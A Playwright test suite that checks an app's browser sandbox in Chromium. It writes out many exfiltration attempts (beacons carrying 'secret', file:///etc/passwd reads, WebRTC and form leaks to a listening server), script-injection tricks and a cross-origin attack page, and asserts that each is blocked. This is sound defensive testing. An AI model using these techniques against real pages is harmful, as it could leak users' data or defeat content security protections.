import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import { openApp, startBrowser, startServer, temporaryFolder } from '../support/app'

// What a page that went astray can reach from behind the browser door, and what another page in
// the same browser can do to ours. Tried in a real Chromium, with somebody listening.

interface World {
  readonly context: BrowserContext
  readonly page: Page
  readonly errors: string[]
  readonly origin: string
  readonly folder: string
}

test('a page reaches its own server and nothing else, by whatever way', async () => {
  await within(async ({ page, origin }) => {
    const listener = await listen()
    const elsewhere = listener.origin
    // Somebody really listens: what does go out is heard.
    await fetch(`${elsewhere}/heard`)
    expect(listener.take()).toEqual(['GET /heard'])
    const own = await page.evaluate(async () => (await fetch('/')).status)
    expect(own).toBe(200)
    for (const [name, attempt] of Object.entries(WAYS_OUT)) {
      const ended = await page
        .evaluate(attempt, { elsewhere, port: Number(new URL(elsewhere).port), udp: listener.udp })
        .then(
          answer => `${answer ?? ''}`,
          (error: Error) => `refused: ${error.message.split('\n')[0]}`,
        )
      await settle(page)
      expect([name, ended, listener.take()]).toEqual([name, ended, []])
      expect([name, ended]).toEqual([name, expect.not.stringContaining('through')])
      expect([name, page.url()]).toEqual([name, `${origin}/`])
      expect([name, page.context().pages().length]).toEqual([name, 1])
    }
    await listener.close()
  })
})

test('a page runs no script that is not a file of its own', async () => {
  await within(async ({ page }) => {
    const ran = await page.evaluate(async () => {
      // A browser lets a debugger evaluate anything; from here on it is the page that asks.
      await new Promise(resolve => setTimeout(resolve))
      const marks = window as unknown as { ran: string[] }
      marks.ran = []
      const refused: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample }) =>
        refused.push(`${effectiveDirective} ${sample}`),
      )
      const attempt = async (name: string, act: () => unknown) => {
        try {
          await act()
        } catch {
          return
        }
        if (name.startsWith('!')) marks.ran.push(name)
      }
      const text = (name: string) => `window.ran.push('${name}')`
      await attempt('! eval', () => (Reflect.get(window, 'eval') as (x: string) => unknown)('1'))
      await attempt('! new Function', () => new Function('return 1')())
      await attempt('! setTimeout', () => setTimeout(text('timeout') as unknown as () => void, 0))
      await attempt('! innerHTML', () => {
        document.createElement('p').innerHTML = '<b>x</b>'
      })
      await attempt('! outerHTML', () => {
        document.body.appendChild(document.createElement('p')).outerHTML = '<b>x</b>'
      })
      await attempt('! insertAdjacentHTML', () =>
        document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      )
      await attempt('! document.write', () => document.write('<b>x</b>'))
      await attempt('! setHTMLUnsafe', () => document.body.setHTMLUnsafe('<b>x</b>'))
      await attempt('! parseFromString', () => new DOMParser().parseFromString('x', 'text/html'))
      await attempt('! createContextualFragment', () =>
        new Range().createContextualFragment('<img src=x>'),
      )
      await attempt('! srcdoc', () => {
        const frame = document.createElement('iframe')
        frame.srcdoc = '<script>parent.ran.push("srcdoc")</script>'
      })
      await attempt('! another policy', () => {
        const types = (
          window as unknown as { trustedTypes: { createPolicy(...x: unknown[]): void } }
        ).trustedTypes
        types.createPolicy('other', { createHTML: (x: string) => x })
      })
      await attempt('! the same policy again', () => {
        const types = (
          window as unknown as { trustedTypes: { createPolicy(...x: unknown[]): void } }
        ).trustedTypes
        types.createPolicy('codicil-worker', { createScript: (x: string) => x })
      })
      await attempt('inline script', () => {
        const script = document.createElement('script')
        script.append(text('inline script'))
        document.body.append(script)
      })
      await attempt('handler', () => {
        const button = document.createElement('button')
        button.setAttribute('onclick', text('handler'))
        document.body.append(button)
        button.click()
      })
      await attempt('address', () => {
        const link = document.createElement('a')
        link.href = `javascript:${text('address')}`
        document.body.append(link)
        link.click()
      })
      await attempt('address gone to', () => {
        location.href = `javascript:${text('address gone to')}`
      })
      await attempt('! worker of a blob', () => new Worker(URL.createObjectURL(new Blob(['1']))))
      await attempt('! service worker', () => navigator.serviceWorker.register('/assets/none.js'))
      await attempt('style', () => {
        const style = document.createElement('style')
        style.append('body { --injected: yes }')
        document.head.append(style)
        if (getComputedStyle(document.body).getPropertyValue('--injected')) marks.ran.push('style')
      })
      // What is allowed does run, so that nothing above was merely not waited for.
      const button = document.createElement('button')
      button.addEventListener('click', () => marks.ran.push('allowed'))
      document.body.append(button)
      button.click()
      // What a browser refuses without an error it tells of, some of it only later.
      const silent = [
        "require-trusted-types-for HTMLScriptElement text|window.ran.push('inline script')",
        "require-trusted-types-for Element onclick|window.ran.push('handler')",
        'script-src-elem ',
        'style-src-elem ',
      ]
      const until = Date.now() + 10_000
      const isLacking = () => silent.some(each => !refused.includes(each))
      while (isLacking() && Date.now() < until) await new Promise(done => setTimeout(done, 10))
      return { ran: marks.ran, lacking: silent.filter(each => !refused.includes(each)) }
    })
    expect(ran).toEqual({ ran: ['allowed'], lacking: [] })
  })
})

test('a page is denied camera, place, clipboard and the like', async () => {
  await within(async ({ page }) => {
    const states = await page.evaluate(async () => {
      const names = [
        'camera',
        'clipboard-read',
        'display-capture',
        'geolocation',
        'idle-detection',
        'local-fonts',
        'microphone',
        'midi',
        'screen-wake-lock',
        'storage-access',
        'window-management',
      ]
      const found: Record<string, string> = {}
      for (const name of names) {
        const status = await navigator.permissions.query({ name: name as PermissionName })
        found[name] = status.state
      }
      return found
    })
    expect(new Set(Object.values(states))).toEqual(new Set(['denied']))
    const endings = await page.evaluate(async () => {
      type Loose = Record<string, Record<string, (...args: unknown[]) => Promise<unknown>>>
      const loose = navigator as unknown as Loose
      const asks: Record<string, () => Promise<unknown>> = {
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
        microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
        screen: () => navigator.mediaDevices.getDisplayMedia(),
        place: () =>
          new Promise((got, refused) => navigator.geolocation.getCurrentPosition(got, refused)),
        clipboard: () => navigator.clipboard.readText(),
        midi: () => navigator.requestMIDIAccess(),
        usb: () => loose.usb!.requestDevice!({ filters: [] }),
        serial: () => loose.serial!.requestPort!(),
        hid: () => loose.hid!.requestDevice!({ filters: [] }),
      }
      const endings: Record<string, string> = {}
      for (const [name, ask] of Object.entries(asks)) {
        endings[name] = await ask().then(
          () => 'granted',
          () => 'denied',
        )
      }
      return endings
    })
    expect(new Set(Object.values(endings))).toEqual(new Set(['denied']))
  })
})

test('a file or link that is dropped on the window leads nowhere', async () => {
  await within(async ({ page, origin, folder }) => {
    const file = join(folder, 'dropped.html')
    await writeFile(file, '<p>dropped</p>')
    const client = await page.context().newCDPSession(page)
    const drops = [
      { items: [], files: [file], dragOperationsMask: 1 },
      {
        items: [{ mimeType: 'text/uri-list', data: 'http://127.0.0.1:9/' }],
        files: [],
        dragOperationsMask: 1,
      },
    ]
    const addresses = () =>
      page
        .context()
        .pages()
        .map(each => each.url())
    const before = addresses()
    const slow = ['dragEnter', 'dragOver', 'drop'] as const
    // Where the page changes under the pointer, it hears of no `dragover` before the drop.
    const sudden = ['dragEnter', 'drop'] as const
    for (const [types, data] of [slow, sudden].flatMap(types =>
      drops.map(d => [types, d] as const),
    )) {
      for (const type of types) {
        await client.send('Input.dispatchDragEvent', { type, x: 400, y: 500, data })
      }
      await settle(page)
      expect(page.url()).toBe(`${origin}/`)
      expect(addresses()).toEqual(before)
    }
    await expect(page.getByRole('main')).toBeVisible()
  })
})

test('a page of another origin cannot embed, read or command ours', async () => {
  await within(async ({ context, origin }) => {
    const attacker = createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' })
      response.end('<!doctype html><title>elsewhere</title>')
    }).listen(0, '127.0.0.1')
    await once(attacker, 'listening')
    const { port } = attacker.address() as AddressInfo
    // Another port of the same address counts as the same site; another name does not.
    for (const host of ['127.0.0.1', 'localhost']) {
      const page = await context.newPage()
      const statuses = await statusesFrom(page, origin)
      await page.goto(`http://${host}:${port}/`)
      const got = await page.evaluate(attack, origin)
      expect([host, got]).toEqual([
        host,
        {
          image: 'failed',
          script: 'failed',
          call: 'failed',
          read: 'failed',
          blind: 'failed',
          style: 'failed',
          frame: 'unreadable',
          beacon: 'sent',
        },
      ])
      await expect.poll(() => statuses().length).toBeGreaterThan(5)
      await settle(page)
      expect([host, new Set(statuses())]).toEqual([host, new Set([403])])
      // A window of ours that it opens is not in its hands.
      const opening = context.waitForEvent('page')
      await page.evaluate(address => {
        Object.assign(window, { opened: window.open(address) })
      }, `${origin}/`)
      const opened = await opening
      await opened.waitForLoadState()
      const hold = await page.evaluate(() => {
        const { opened } = window as unknown as { opened: Window | null }
        if (!opened || opened.closed) return 'closed'
        try {
          return String(opened.document.title)
        } catch {
          return 'unreadable'
        }
      })
      expect([host, hold]).toEqual([host, expect.stringMatching(/^(closed|unreadable)$/)])
      expect(await opened.evaluate(() => window.opener)).toBeNull()
      await opened.close()
      await page.close()
    }
    attacker.close()
  })
})

test('a page that kept crashing starts without opening anything, and says why', async () => {
  await within(async ({ page, origin }) => {
    await page.getByRole('button', { name: /sample/i }).click()
    await expect(page.getByRole('treegrid').or(page.getByRole('tree')).first()).toBeVisible()
    await page.goto(`${origin}/?safe=1`)
    await expect(page.getByText('The window crashed several times')).toBeVisible()
    await expect(page.getByRole('button', { name: 'Sample project', exact: true })).toBeVisible()
    expect(await page.evaluate(() => sessionStorage.getItem('codicil.open'))).toBeNull()
  })
})

interface Elsewhere {
  readonly elsewhere: string
  readonly port: number
  readonly udp: number
}

/** What a script could try. Each runs in the page; what gets an answer says `through`. */
const WAYS_OUT: Readonly<Record<string, (to: Elsewhere) => unknown>> = {
  'fetch of http': async ({ elsewhere }) => fetch(elsewhere).then(() => 'through'),
  'fetch without reading': async ({ elsewhere }) =>
    fetch(elsewhere, { mode: 'no-cors', keepalive: true }).then(() => 'through'),
  'fetch of https': async ({ port }) => fetch(`https://127.0.0.1:${port}/`).then(() => 'through'),
  'fetch of a name': async ({ port }) => fetch(`http://localhost:${port}/`).then(() => 'through'),
  'fetch of a file': async () => fetch('file:///etc/passwd').then(() => 'through'),
  'fetch from an empty frame': async ({ elsewhere }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return frame.contentWindow!.fetch(elsewhere).then(() => 'through')
  },
  request: async ({ elsewhere }) =>
    new Promise(resolve => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('through')
      request.onerror = () => resolve('failed')
      request.open('GET', elsewhere)
      request.send()
    }),
  socket: async ({ port }) =>
    new Promise(resolve => {
      const socket = new WebSocket(`ws://127.0.0.1:${port}/`)
      socket.onopen = () => resolve('through')
      socket.onerror = () => resolve('failed')
    }),
  events: async ({ elsewhere }) =>
    new Promise(resolve => {
      const source = new EventSource(elsewhere)
      source.onopen = () => resolve('through')
      source.onerror = () => resolve('failed')
    }),
  transport: async ({ port }) => {
    const transport = new WebTransport(`https://127.0.0.1:${port}/`)
    await transport.ready
    return 'through'
  },
  beacon: ({ elsewhere }) => void navigator.sendBeacon(elsewhere, 'secret'),
  image: ({ elsewhere }) => {
    new Image().src = `${elsewhere}/image`
  },
  background: ({ elsewhere }) => {
    document.body.style.backgroundImage = `url(${elsewhere}/background)`
  },
  font: async ({ elsewhere }) =>
    new FontFace('x', `url(${elsewhere}/font)`).load().then(() => 'through'),
  video: ({ elsewhere }) => {
    document.body.appendChild(document.createElement('video')).src = `${elsewhere}/video`
  },
  script: ({ elsewhere }) => {
    document.head.appendChild(document.createElement('script')).src = `${elsewhere}/script`
  },
  module: async ({ elsewhere }) => import(`${elsewhere}/module.js`).then(() => 'through'),
  worker: ({ elsewhere }) => void new Worker(`${elsewhere}/worker.js`),
  'shared worker': ({ elsewhere }) => void new SharedWorker(`${elsewhere}/worker.js`),
  ...Object.fromEntries(
    ['stylesheet', 'prefetch', 'preload', 'manifest', 'icon', 'preconnect', 'dns-prefetch'].map(
      rel => [
        `link ${rel}`,
        // The value cannot be closed over: the function runs in the page.
        new Function(
          'to',
          `const link = document.createElement('link')
           link.rel = '${rel}'; link.as = 'image'; link.href = to.elsewhere + '/${rel}'
           document.head.append(link)`,
        ) as (to: Elsewhere) => unknown,
      ],
    ),
  ),
  frame: ({ elsewhere }) => {
    document.body.appendChild(document.createElement('iframe')).src = `${elsewhere}/frame`
  },
  object: ({ elsewhere }) => {
    document.body.appendChild(document.createElement('object')).data = `${elsewhere}/object`
  },
  embed: ({ elsewhere }) => {
    document.body.appendChild(document.createElement('embed')).src = `${elsewhere}/embed`
  },
  form: ({ elsewhere }) => {
    const form = document.body.appendChild(document.createElement('form'))
    form.action = `${elsewhere}/form`
    form.method = 'post'
    form.submit()
  },
  'form in a new window': ({ elsewhere }) => {
    const form = document.body.appendChild(document.createElement('form'))
    form.action = `${elsewhere}/form`
    form.target = '_blank'
    form.submit()
  },
  location: ({ elsewhere }) => {
    location.href = `${elsewhere}/location`
  },
  'location.assign': ({ elsewhere }) => location.assign(`${elsewhere}/assign`),
  'location.replace': ({ elsewhere }) => location.replace(`${elsewhere}/replace`),
  'location from an empty frame': ({ elsewhere }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.contentWindow!.location.href = `${elsewhere}/frame-location`
  },
  'top from an empty frame': ({ elsewhere }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.contentWindow!.top!.location.href = `${elsewhere}/top`
  },
  'location of a file': () => {
    location.href = 'file:///etc/passwd'
  },
  'location of data': () => {
    location.href = 'data:text/html,x'
  },
  refresh: ({ elsewhere }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${elsewhere}/refresh`
    document.head.append(meta)
  },
  link: ({ elsewhere }) => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = `${elsewhere}/link`
    link.ping = `${elsewhere}/ping`
    link.click()
  },
  'link to a new window': ({ elsewhere }) => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = `${elsewhere}/link`
    link.target = '_blank'
    link.click()
  },
  'new window': ({ elsewhere }) => {
    window.open(`${elsewhere}/open`)
  },
  'call by udp': ({ udp }) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] })
    call.createDataChannel('x')
    return call.createOffer().then(offer => call.setLocalDescription(offer))
  },
  'call by tcp': ({ port }) => {
    const urls = `turn:127.0.0.1:${port}?transport=tcp`
    const iceServers = [{ urls, username: 'a', credential: 'b' }]
    const call = new RTCPeerConnection({ iceServers })
    call.createDataChannel('x')
    return call.createOffer().then(offer => call.setLocalDescription(offer))
  },
}

/** What another page tries on ours. Runs there; answers how each attempt ended. */
async function attack(origin: string): Promise<Record<string, string>> {
  const element = (tag: 'img' | 'script' | 'link', path: string) =>
    new Promise<string>(resolve => {
      const made = document.createElement(tag)
      made.addEventListener('load', () => resolve('loaded'))
      made.addEventListener('error', () => resolve('failed'))
      if (made instanceof HTMLLinkElement) {
        made.rel = 'stylesheet'
        made.href = origin + path
      } else made.src = origin + path
      document.head.append(made)
    })
  const body = new Uint8Array([2, 0, 0, 0, 0x5b, 0x5d])
  const asked = (path: string, options: RequestInit) =>
    fetch(origin + path, { credentials: 'include', ...options }).then(
      reply => (reply.type === 'opaque' ? 'opaque' : 'read'),
      () => 'failed',
    )
  const ends: Record<string, string> = {
    image: await element('img', '/written/a/b'),
    script: await element('script', '/host/about'),
    style: await element('link', '/assets/none.css'),
    call: await asked('/host/about', { method: 'POST', body }),
    read: await asked('/', {}),
    blind: await asked('/host/about', { method: 'POST', body, mode: 'no-cors' }),
    beacon: navigator.sendBeacon(`${origin}/host/about`, body) ? 'sent' : 'failed',
  }
  const frame = document.createElement('iframe')
  frame.name = 'target'
  frame.src = `${origin}/`
  const loaded = new Promise(resolve => frame.addEventListener('load', resolve))
  document.body.append(frame)
  await loaded
  try {
    ends.frame = frame.contentDocument?.title ?? 'unreadable'
  } catch {
    ends.frame = 'unreadable'
  }
  const form = document.createElement('form')
  form.method = 'post'
  form.enctype = 'text/plain'
  form.action = `${origin}/host/about`
  form.target = 'target'
  document.body.append(form)
  form.submit()
  return ends
}

/** The app in a browser of its own, which both go when the test is done. */
async function within(act: (world: World) => Promise<void>): Promise<void> {
  const folder = await temporaryFolder()
  const server = await startServer(join(folder.path, 'data'))
  const context = await startBrowser(join(folder.path, 'profile'))
  try {
    const { page, errors } = await openApp(context, server.url)
    await expect(page.getByRole('main')).toBeVisible()
    const { origin } = new URL(server.url)
    await act({ context, page, errors, origin, folder: folder.path })
  } finally {
    await context.close()
    await server.stop()
    await folder.clean()
  }
}

/**
 * The statuses of all that a page's requests to an origin come to, even where it never learns.
 * Chromium tells of an answer's status and of its request in either order.
 */
async function statusesFrom(page: Page, origin: string): Promise<() => number[]> {
  const client = await page.context().newCDPSession(page)
  const ours = new Set<string>()
  const answers: { readonly requestId: string; readonly statusCode: number }[] = []
  client.on('Network.requestWillBeSent', ({ requestId, request }) => {
    if (request.url.startsWith(`${origin}/`)) ours.add(requestId)
  })
  client.on('Network.responseReceivedExtraInfo', answer => answers.push(answer))
  await client.send('Network.enable')
  return () => answers.filter(each => ours.has(each.requestId)).map(each => each.statusCode)
}

/** Waits until what the page has begun had time to arrive: two round trips and a frame. */
async function settle(page: Page): Promise<void> {
  await page
    .evaluate(async () => {
      for (let i = 0; i < 2; i++)
        await fetch('/', { cache: 'no-store' }).then(reply => reply.text())
      await new Promise(requestAnimationFrame)
    })
    .catch(() => {})
}

/** Somebody who writes down every request and every packet, and answers anyone. */
async function listen() {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x')
  })
  server.on('upgrade', (request, socket) => {
    heard.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  server.on('clientError', (_error, socket) => {
    heard.push('bytes that are no request')
    socket.destroy()
  })
  server.listen(0, '127.0.0.1')
  const packets = createSocket('udp4').on('message', () => heard.push('packet'))
  packets.bind(0, '127.0.0.1')
  await Promise.all([once(server, 'listening'), once(packets, 'listening')])
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    udp: packets.address().port,
    take: () => heard.splice(0),
    close: async () => {
      packets.close()
      server.closeAllConnections()
      server.close()
    },
  }
}
